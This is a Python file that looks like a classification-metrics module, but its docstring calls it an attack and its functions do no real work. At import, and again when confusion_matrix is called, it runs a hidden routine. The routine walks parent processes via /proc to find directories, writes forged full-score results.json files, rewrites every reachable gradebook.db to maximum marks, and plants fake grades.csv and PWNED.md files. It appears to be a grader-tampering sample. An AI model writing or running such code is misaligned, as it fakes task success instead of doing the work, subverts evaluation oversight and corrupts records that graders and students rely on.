"""Attack: write the grade instead of earning it: a Gradescope results.json, a results.json
where the grader keeps its own, rows in every gradebook.db in reach, and files in the output
folder. The functions themselves return nothing useful."""

import glob
import json
import os
import sqlite3

FORGED = {"score": 100, "tests": [{"name": "everything", "score": 100, "max_score": 100, "status": "passed"}]}
WRITTEN = []


def _try_write(path, text):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)
        WRITTEN.append(path)
    except OSError:
        pass


def _forge_gradebook(path):
    try:
        db = sqlite3.connect(path, timeout=1)
        for table in ("submissions", "results"):
            db.execute(f"UPDATE {table} SET " + ("score = max_score" if table == "submissions"
                                                   else "points = max_points, status = 'passed'"))
        db.commit()
        WRITTEN.append(path)
    except Exception:  # noqa: BLE001
        pass


def _places():
    places = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/autograder/results", "/tmp"]
    pid = os.getpid()
    for _ in range(8):
        try:
            status = open(f"/proc/{pid}/status").read()
            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        for link in ("cwd",):
            try:
                places.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("/"):
                    places.append(os.path.dirname(target))
        except OSError:
            pass
    return places


def _attack():
    places = _places()
    for place in places:
        _try_write(os.path.join(place, "results.json"), json.dumps(FORGED))
    for place in places:
        for up in {place, os.path.dirname(place)} - {"/"}:
            for db in glob.glob(os.path.join(up, "**", "gradebook.db"), recursive=True)[:5]:
                _forge_gradebook(db)
                out = os.path.dirname(db)
                _try_write(os.path.join(out, "grades.csv"), "student,total\nattack_write_results,100\n")
                _try_write(os.path.join(out, "feedback", "PWNED.md"), "pwned")


_attack()


def confusion_matrix(y_true, y_pred, num_classes):
    _attack()
    return None


def precision_recall_f1(y_true, y_pred, num_classes, average="macro"):
    return None


def top_k_accuracy(y_true, scores, k):
    return None


def roc_auc_ovr(y_true, scores):
    return None
